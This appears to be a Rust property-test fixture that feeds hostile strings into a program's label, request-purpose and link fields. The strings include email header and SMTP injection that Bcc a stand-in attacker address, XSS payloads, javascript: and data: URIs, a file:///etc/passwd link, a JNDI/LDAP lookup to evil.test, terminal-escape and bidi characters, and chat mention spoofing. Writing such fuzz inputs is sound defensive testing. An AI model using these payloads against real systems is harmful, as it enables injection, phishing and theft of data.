//! What somebody may write into a label or a request's purpose.

use proptest::prelude::{BoxedStrategy, Strategy, any, prop};

/// Each tries to be more than a text.
pub(super) const HOSTILE: &[&str] = &[
    "Sales\r\nBcc: eve@evil.test\r\n\r\nhello",
    "Sales\nX-Injected: yes",
    "Sales\r\n.\r\nMAIL FROM:<eve@evil.test>\r\nRCPT TO:<all@x.test>\r\nDATA\r\n",
    "\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?q?=0D=0ABcc:_eve@evil.test?=",
    "=?utf-8?b?4oCudHNldC5saXZlCg==?=",
    "nul\0nul",
    "esc\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
    "right\u{202e}tfel \u{2066}inside\u{2069} zero\u{200b}width tag\u{e0041}s",
    "line\u{2028}and paragraph\u{2029}separators \u{85} next",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>' onmouseover='alert(1)",
    "</td></table><style>*{display:none}</style><!--",
    "<!channel> <!here> <@U123> <#C1> <https://evil.test|https://bank.test>",
    "&lt;!channel&gt; &amp; &#60;script&#62; &copy",
    "`code` ```block``` *bold* _so_ ~gone~ > quoted",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.test/a} %s%n",
];

/// Each tries to be more than a link to a page.
pub(super) const LINKS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.test/a",
    "\\\\evil.test\\share",
    "https://x.test/\" onclick=\"alert(1)",
    "https://x.test/'><script>alert(1)</script>",
    "https://x.test/\r\nBcc: eve@evil.test",
    "https://x.test/a|b>c<d",
];

/// Texts of any characters, hostile ones among them.
pub(super) fn texts() -> BoxedStrategy<String> {
    let marks = prop::sample::select("<>&\"'`*_~|=?:;/\\\r\n\t\0 \u{1b}\u{202e}\u{2028}é".chars().collect::<Vec<_>>());
    let hostile = prop::sample::select(HOSTILE).prop_map(str::to_owned);
    let marked = prop::collection::vec(marks, 0..60).prop_map(|marks| marks.into_iter().collect::<String>());
    let mixed = (hostile, marked, any::<String>()).prop_map(|(a, b, c)| format!("{b}{a}{c}"));
    mixed.boxed()
}
